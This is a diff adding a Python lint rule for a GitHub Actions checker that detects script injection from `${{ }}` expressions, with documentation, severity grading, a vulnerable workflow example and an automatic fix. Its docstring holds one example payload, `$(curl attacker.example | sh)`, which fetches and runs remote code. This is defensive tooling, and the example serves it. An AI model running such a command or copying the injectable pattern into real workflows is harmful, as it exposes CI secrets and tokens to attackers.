@@ -1,0 +1,173 @@
+"""An expression puts text that somebody else chooses into code.
+
+## Why is this bad?
+`${{ }}` is replaced before the shell starts, so that its text becomes part of the script. An issue whose title is
+`$(curl attacker.example | sh)` runs that command, with the job's token and secrets at hand. It makes no difference
+whether the text comes straight from the event or through `env`, an output, an input or the matrix.
+
+How bad it is depends on who chooses the text. High: anybody, in a run with the powers of the repository. Medium:
+anybody, but only in runs of `pull_request`, which get no secrets; or callers that are not in this repository. Low: people with
+write access, through an input of `workflow_dispatch` or the name of a branch. Informational: nobody can see from here
+where the text comes from. Values that nobody chooses freely (numbers, hashes, logins) are not reported.
+
+## Example
+```yaml
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Greet
+        run: |
+          echo "New: ${{ github.event.issue.title }}"
+```
+
+Use instead:
+```yaml
+on: issues
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Greet
+        env:
+          ISSUE_TITLE: ${{ github.event.issue.title }}
+        run: |
+          echo "New: ${ISSUE_TITLE}"
+```
+
+## Fix safety
+Safe where a field of the event stands inside of quotes in which the shell expands variables: nobody can mean such a text
+as code. Unsafe everywhere else, since the text may have been meant as several words or as code: an input
+with flags for a command, say. No fix where a variable would be code again: in the place of a command, in a
+pattern, in a program of another interpreter (`python -c`, `jq`, `ssh`), under cmd.
+
+## References
+- [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)
+- [Untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from steplock.model import Step
+from steplock.moves import move_to_env
+from steplock.rule import (
+    Confidence,
+    Context,
+    Finding,
+    Fix,
+    Persona,
+    Related,
+    Safety,
+    Severity,
+    rule,
+)
+from steplock.syntax import Scalar
+from steplock.tables import sinks
+from steplock.taint import Control, Source, Taint, Who, analysis
+
+_GRADES = {
+    Who.STRANGER: (Severity.HIGH, "anybody can write it, and so run commands here"),
+    Who.FORK: (
+        Severity.MEDIUM,
+        "anybody can write it and run commands here, though only in runs of `pull_request`",
+    ),
+    Who.CALLER: (Severity.MEDIUM, "whoever calls this can run commands here"),
+    Who.WRITER: (Severity.LOW, "people with write access can run commands here with it"),
+    Who.OWNER: (
+        Severity.INFORMATIONAL,
+        "who may change the settings can run commands here with it",
+    ),
+    Who.NOBODY: (
+        Severity.INFORMATIONAL,
+        "it is always empty here, and would be code if it were not",
+    ),
+    Who.UNSEEN: (Severity.INFORMATIONAL, "where its text comes from cannot be seen"),
+}
+
+
+@rule(severity=Severity.HIGH)
+def check(step: Step, context: Context) -> Iterator[Finding]:
+    for key, scalar in _code(step):
+        if "${{" not in scalar.value:
+            continue
+        seen = set()
+        for source in analysis(step.file, context.repository).sources(scalar, step):
+            worst = next(iter(source.taints), None)
+            if worst is None or worst.control is Control.HARMLESS or source.span in seen:
+                continue
+            if key != "working-directory" or worst.who is Who.STRANGER:
+                seen.add(source.span)
+                yield _finding(step, key, scalar, source, worst, context)
+
+
+def _code(step: Step) -> Iterator[tuple[str, Scalar]]:
+    """The scalars of a step that are run as code, by their keys."""
+    if step.run is not None:
+        yield "run", step.run
+        for key in ("shell", "working-directory"):
+            scalar = step.node.scalar(key)
+            if scalar is not None:
+                yield key, scalar
+    elif step.uses is not None and step.inputs is not None:
+        for name, value in step.inputs.items:
+            if not isinstance(value, Scalar) or "${{" not in value.value:
+                continue
+            if sinks.find(step.uses.action, name.value):
+                yield name.value, value
+
+
+def _finding(
+    step: Step, key: str, scalar: Scalar, source: Source, worst: Taint, context: Context
+) -> Finding:
+    written = scalar.value[source.span.start : source.span.end]
+    severity, says = _GRADES[worst.who]
+    persona = Persona.REGULAR
+    if worst.control is Control.CONSTRAINED:
+        severity, persona = Severity.LOW, Persona.PEDANTIC
+        says = "its text is of a form that a shell does not act on; a variable would be as good"
+    known = worst.what.strip("`").lower() == written.lower()
+    carried = "" if known else f" ({worst.what})"
+    where = "as code" if key != "working-directory" else "as a folder"
+    return Finding(
+        step.document.locate(scalar, source.span),
+        f"`{_short(written)}`{carried} is put into `{key}:` {where}: {says}",
+        (_fix(step, scalar, source, worst),),
+        severity=severity,
+        confidence=_confidence(worst),
+        persona=persona,
+        related=tuple(
+            Related(hop.message, hop.span, None if hop.path == context.path else hop.path)
+            for hop in worst.hops
+        ),
+        scope=step.span,
+    )
+
+
+def _confidence(worst: Taint) -> Confidence:
+    if worst.who in (Who.UNSEEN, Who.NOBODY):
+        return Confidence.LOW
+    return Confidence.HIGH if worst.certain else Confidence.MEDIUM
+
+
+def _fix(step: Step, scalar: Scalar, source: Source, worst: Taint) -> Fix | None:
+    if scalar is not step.run and not (
+        step.uses and step.uses.slug == "actions/github-script" and "\n" in scalar.value
+    ):
+        return None
+    fence = source.fence
+    move = move_to_env(step, scalar, scalar.value[fence.inner.start : fence.inner.end].strip())
+    if move is None:
+        return None
+    direct = not worst.hops and worst.who in (Who.STRANGER, Who.FORK)
+    safety = Safety.SAFE if move.exact and direct and scalar is step.run else Safety.UNSAFE
+    return Fix.of(f"Pass it in the variable `{move.variable}`", move.edits, safety=safety)
+
+
+def _short(text: str) -> str:
+    text = " ".join(text.split())
+    return text if len(text) <= 60 else f"{text[:57]}..."
